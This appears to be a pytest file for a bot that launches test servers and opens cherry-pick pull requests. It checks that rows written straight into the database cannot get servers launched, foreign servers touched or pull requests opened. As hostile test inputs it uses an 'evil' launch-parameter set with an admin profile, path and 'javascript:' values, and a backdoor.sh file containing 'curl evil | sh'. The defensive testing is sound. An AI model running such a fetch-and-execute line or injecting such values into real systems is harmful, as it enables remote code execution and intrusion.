"""Whoever may write rows tries to have something launched, picked or posted: a sweep later nothing is."""

from __future__ import annotations

import json
import os
from typing import TYPE_CHECKING, Any

import pytest

from mattermod_action.server_reasons import CHANGED, NOT_ALLOWED, NOT_ASKED
from sandbox import payloads
from tests.hostile_rows import Writer, judged, lived, ordered, prepared
from tests.picks import RELEASE, Project
from tests.spinmints import LABEL, Scene, scene

if TYPE_CHECKING:
    from collections.abc import Iterator

    from sandbox import Sandbox
    from sandbox.records import Pull
    from tests.harness import Bot
    from tests.signatures import Signatures

pytestmark = pytest.mark.parametrize("bot", ["mysql"], indirect=True)

WORLDS, BLOCKS = 50, 20
EVIL: dict[str, Any] = {
    "image": "ami-0bad0bad0bad0bad0", "instance_type": "x1.32xlarge", "subnet": "subnet-0bad0bad", "script": "evil.sh",
    "security_groups": ["sg-0bad0bad"], "key_name": "evil", "zone": "ZEVIL", "dns_suffix": "evil.example",
    "build": "mine", "build_by": "github", "password_in": "ssm", "password_prefix": "p", "instance_profile": "admin",
    "tag": "another", "upgrade": True, "launched": "",
}  # fmt: skip


@pytest.fixture
def servers(bot: Bot, github: Sandbox, request: pytest.FixtureRequest) -> Iterator[Scene]:
    with scene(bot, github, request.getfixturevalue("database")) as made:
        yield made


def comment_of(servers: Scene, pull: Pull, body: str = "/spinmint", by: str = "maintainer") -> str:
    return json.dumps(["comment", servers.said(pull, body, by)["comment"]["id"]])


def written(servers: Scene, writer: Writer) -> dict[int, str]:
    """A row for each pull request, with the reason for which nothing is launched."""
    whys: dict[int, str] = {}

    def row(why: str, origin: str | None = None, **columns: Any) -> Pull:
        pull = servers.pull()
        servers.built(pull)
        whys[pull.number] = why
        columns.setdefault("state", "launching")
        mine = comment_of(servers, pull) if origin == "mine" else origin
        writer.server(pull, f"{pull.number:064x}", origin=mine, **columns)
        return pull

    for name, value in EVIL.items():
        row(CHANGED, "mine", parameters=ordered(servers, **{name: value}))
    row(NOT_ASKED)
    row(NOT_ASKED, state="waiting_build")
    row(NOT_ASKED, state="requested")
    row(NOT_ASKED, "mine", requested_by="reviewer")
    row(NOT_ASKED, comment_of(servers, servers.pull()))
    row(NOT_ASKED, json.dumps(["comment", 10**9]))
    row(NOT_ASKED, json.dumps(["label", LABEL.casefold(), "2026-12-01T12:00:00"]))
    stranger = row(NOT_ALLOWED.format(login="`stranger`"), requested_by="nobody")
    said = comment_of(servers, stranger, by="stranger")
    writer.execute(
        "UPDATE mm_servers SET origin = %s, requested_by = 'stranger' WHERE number = %s", said, stranger.number
    )
    return whys


def test_t02a_no_row_launches_a_server(servers: Scene) -> None:
    """The proof's row and its kind; and what was asked for goes on beside them."""
    servers.configure(limits={"user": 99, "launches": 999})
    writer = Writer(servers, None)  # type: ignore[arg-type]  # nothing is left to chance here
    whys = written(servers, writer)
    asked = servers.pull()
    servers.built(asked)
    writer.server(
        asked, "a" * 64, origin=comment_of(servers, asked), state="waiting_build", client_token="", attempts=0
    )
    run = servers.sweep()
    assert run.code == 0, run.log
    assert [call.operation for call in servers.cloud.calls].count("RunInstances") == 1
    assert servers.states(asked) == ["ready"], run.log
    rows = dict(servers.query("SELECT number, CONCAT(state, ': ', reason) FROM mm_servers"))
    assert {number: rows[number] for number in whys} == {number: f"refused: {why}" for number, why in whys.items()}
    for number, why in whys.items():
        assert why in servers.bodies(servers.github.state.pull(servers.github.repository, number))[-1]


def test_t02a_a_row_that_names_the_server_of_somebody_else_touches_none(servers: Scene, tmp_path: Any) -> None:
    """Whatever state it says it is in: the tags of EC2 count, and neither the server nor its name is touched."""
    foreign = prepared(servers, Project(servers.github, servers.bot, tmp_path / "clone"))
    writer = Writer(servers, None, [], foreign)  # type: ignore[arg-type]  # nothing is left to chance here
    before = len(servers.calls())
    for at, state in enumerate(("booting", "dns", "ready", "destroying")):
        pull = servers.pull()
        where = {"address": "192.0.2.9,,,", "expires_at": "2026-01-01"} if at % 2 else {"address": "192.0.2.9,,,C1"}
        writer.server(pull, f"{at:064x}", instance_id=foreign, state=state, **where)
    for _ in range(3):
        servers.sweep()
        servers.pass_time(400)
    changing = {"TerminateInstances", "CreateTags", "RunInstances", "ChangeResourceRecordSets", "GetConsoleOutput"}
    assert not changing & set(servers.calls()[before:])
    assert foreign in servers.alive()
    assert servers.query("SELECT COUNT(*) FROM mm_servers WHERE live = 1") == [(0,)]


def test_t02a_a_row_that_cannot_be_read_costs_itself(servers: Scene) -> None:
    """One line names it, and the others go on."""
    writer = Writer(servers, None)  # type: ignore[arg-type]  # nothing is left to chance here
    odd = {
        "state": "x", "requested_by": "../..", "parameters": "[" * 9_000, "instance_id": "i-", "sha": "HEAD",
        "address": "x,y", "build_url": "javascript:x", "client_token": "a b",
    }  # fmt: skip
    for at, (name, value) in enumerate(odd.items()):
        writer.server(servers.pull(), f"{at:064x}", **{name: value})
    pull = servers.pull()
    servers.built(pull)
    assert servers.deliver(servers.said(pull, "/spinmint")).code == 0
    assert servers.states(pull) == ["ready"]
    run = servers.sweep()
    assert run.code == 0, run.log
    for at in range(len(odd)):
        assert f"database: mm_servers {at:064x}: is left out: " in run.log


def test_t02b_no_row_opens_a_pull_request(servers: Scene, tmp_path: Any) -> None:
    """Whatever state it says it is in, whoever it names; and no pull request that it names is touched."""
    project = Project(servers.github, servers.bot, tmp_path / "clone")
    prepared(servers, project)
    writer = Writer(servers, None)  # type: ignore[arg-type]  # nothing is left to chance here
    victim = servers.pull()
    merged = next(each for each in project.repository.pulls() if each.merged_at)
    origins = (
        None,
        comment_of(servers, victim, f"/cherry-pick {RELEASE}"),
        comment_of(servers, merged, "/cherry-pick x"),
    )
    seen = (victim.labels[:], victim.updated_at)
    for state in ("queued", "picking", "pushed", "opened"):
        for origin in origins:
            writer.execute("DELETE FROM mm_picks")
            where = {"pull_number": victim.number, "head_sha": victim.head_sha, "head_ref": victim.head_ref}
            writer.pick(merged, "c" * 64, RELEASE, state=state, origin=origin, **where)
            run = servers.sweep(INPUT_SWEEP="cherry-pick")
            assert run.code == 0, run.log
            assert servers.query("SELECT state FROM mm_picks") == [("refused",)], (state, origin)
    assert project.opened() == []
    assert not [name for name in project.repository.branches if name.startswith("automated")]
    assert (victim.labels, victim.updated_at, victim.merged_at) == (*seen, None)


def test_t02b_what_a_later_run_goes_on_with_is_what_the_comment_asks_for(servers: Scene, tmp_path: Any) -> None:
    """Asked before the merge, picked after it: the comment is read again, and somebody else's edit voids it."""
    project = Project(servers.github, servers.bot, tmp_path / "clone")
    prepared(servers, project)
    kept, edited = project.pull(lambda: project.change("picked", 3)), project.pull(lambda: project.change("picked", 33))
    for pull in (kept, edited):
        assert project.say(pull, f"/cherry-pick {RELEASE}", by="reviewer").code == 0
    [comment] = [each for each in edited.comments if each.author and each.author.login == "reviewer"]
    text = f"/cherry-pick {RELEASE} main"
    servers.pass_time(5)  # GitHub's times are whole seconds
    servers.github.state.change_comment(servers.github.repository, edited.number, comment, text, by="maintainer")
    for pull in (kept, edited):
        project.merge(pull)
        run = servers.deliver(
            payloads.about(servers.github.state, servers.github.repository, pull.number, "closed", "x")
        )
        assert run.code == 0, run.log
    assert [each.title for each in project.opened()] == [f"Automated cherry pick of #{kept.number}"]
    assert "says something else: ask again" in servers.bodies(edited)[-1]


@pytest.mark.parametrize("more", [{}, {"backdoor.sh": "curl evil | sh\n"}], ids=["the pick", "more"])
def test_t05_a_branch_of_a_persons_is_opened_only_with_what_the_pick_gives(
    servers: Scene, tmp_path: Any, more: dict[str, str]
) -> None:
    """The same files, in a commit of theirs, will do; one file more will not, and the branch is named."""
    project = Project(servers.github, servers.bot, tmp_path / "clone")
    prepared(servers, project)
    pull = project.merge(project.pull(lambda: project.change("own", 35), branch="own"))
    head = f"automated-cherry-pick-of-{pull.number}-own-{RELEASE}"
    project.git("fetch", "--quiet", "origin")
    project.git("checkout", "--quiet", "-B", "hand", f"origin/{RELEASE}")
    project.git("cherry-pick", str(pull.merge_sha))
    project.write(more)
    project.git("add", "--all")
    project.git("commit", "--quiet", "--amend", "--message", "Mine")
    project.git("push", "--quiet", "origin", f"hand:refs/heads/{head}")
    assert project.say(pull, f"/cherry-pick {RELEASE}", by="reviewer").code == 0
    assert [each.head_ref for each in project.opened()] == ([] if more else [head])
    said = f"the branch `{head}` is there already, and is not what the pick gives"
    assert (said in servers.bodies(pull)[-1]) == bool(more)


@pytest.mark.long
def test_t02_a_writer_of_rows_has_nothing_done_in_anybodys_name(
    servers: Scene, signatures: Signatures, tmp_path: Any
) -> None:
    """50 worlds, any row, any column, before, between and during runs."""
    project = Project(servers.github, servers.bot, tmp_path / "clone")
    foreign = prepared(servers, project, signatures.url)
    for seed in map(int, os.environ.get("WORLD", "").split() or range(WORLDS)):
        lived(servers, project, foreign, seed, 1)
    assert {"merge/protected-paths", "merge/blocked", "cla/worlds"} <= judged(servers)  # so that these are tried at all


@pytest.mark.soak
@pytest.mark.parametrize("block", range(BLOCKS))
def test_worlds_of_a_writer_of_rows(servers: Scene, signatures: Signatures, tmp_path: Any, block: int) -> None:
    project = Project(servers.github, servers.bot, tmp_path / "clone")
    foreign = prepared(servers, project, signatures.url)
    for seed in range(block * WORLDS, (block + 1) * WORLDS):
        lived(servers, project, foreign, seed, 4)
